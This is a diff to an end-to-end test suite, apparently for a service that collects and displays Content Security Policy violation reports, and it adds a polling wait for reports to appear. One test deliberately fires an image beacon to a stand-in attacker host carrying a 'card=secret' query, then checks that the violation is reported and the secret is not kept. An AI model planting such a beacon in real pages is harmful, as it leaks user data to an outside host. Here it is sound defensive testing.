@@ -4,6 +4,7 @@ import assert from "node:assert/strict";
 
 import { scenario } from "./harness/scenario.mjs";
 import { snippet } from "./harness/stack.mjs";
+import { until } from "./harness/wait.mjs";
 
 scenario("the organisation's name changes, and the widget says it", async (world) => {
   const organisation = await world.organisation();
@@ -68,16 +69,18 @@ scenario("the snippet to copy is the one that works", async (world) => {
 scenario("what the customer's policy refuses is reported, shown and cleared", async (world) => {
   const organisation = await world.organisation();
   const visitor = await world.visitor(organisation);
-  const reported = visitor.page.waitForResponse((response) => response.url().endsWith("/reports"));
   await visitor.page.evaluate(() => {
     new Image().src = "https://evil.example/pixel.gif?card=secret";
   });
-  assert.equal((await reported).status(), 204);
   // The violation was wanted; none may be left on the pages that stay open.
   await visitor.page.close();
   const { page, section } = await world.console(organisation);
   await section("Reports");
-  await page.getByText("https://evil.example").first().waitFor();
+  // Browsers send reports when they find the time.
+  await until("the violation is shown", async () => {
+    await page.getByRole("button", { name: "Load again" }).click();
+    return page.getByText("https://evil.example").first().isVisible();
+  });
   await page.getByText(`${organisation.customer.origin}/shop`).first().waitFor();
   assert.equal(await page.getByText("secret").count(), 0, "queries are not kept");
   await page.getByRole("button", { name: "Clear all" }).click();
